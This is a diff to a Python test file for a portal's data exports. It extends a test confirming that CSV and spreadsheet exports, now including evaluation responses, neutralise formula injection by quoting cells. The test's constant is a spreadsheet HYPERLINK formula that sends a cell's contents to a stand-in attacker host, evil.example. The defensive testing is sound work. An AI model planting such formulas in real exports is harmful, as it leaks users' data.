@@ -19,6 +19,7 @@ from portal.learning.journal import journal_csv, journal_entries, journal_entry_
 from portal.records import bundle
 from portal.records.audit_log import audit_csv, audit_search
 from portal.tabular import FORMULA_STARTS, cell_safe, csv_bytes, xlsx_bytes
+from tests.factories_evaluation import submitted_make
 from tests.factories_records import offering_with_everything
 
 HOSTILE = '=HYPERLINK("http://evil.example/?"&C2,"Open")'
@@ -58,6 +59,8 @@ def _no_formula(name: str, cells) -> None:
 
 def test_a_hostile_name_is_quoted_in_every_export(session, app_env):
     offering, admin, ana, _ = offering_with_everything(session)
+    for _ in range(2):  # responses are exported only from groups of at least three
+        submitted_make(session, offering, comments=HOSTILE)
     ana.full_name = HOSTILE
     journal_entry_save(
         session=session,
@@ -88,3 +91,4 @@ def test_a_hostile_name_is_quoted_in_every_export(session, app_env):
     assert "'" + HOSTILE in exports["roster.csv"] + exports["ZIP roster.csv"]
     assert "'" + HOSTILE in exports["ZIP payments-and-refunds.csv"]
     assert "'" + HOSTILE in exports["journal.csv"]
+    assert "'" + HOSTILE in exports["responses.csv"] + exports["ZIP evaluation-responses.csv"]
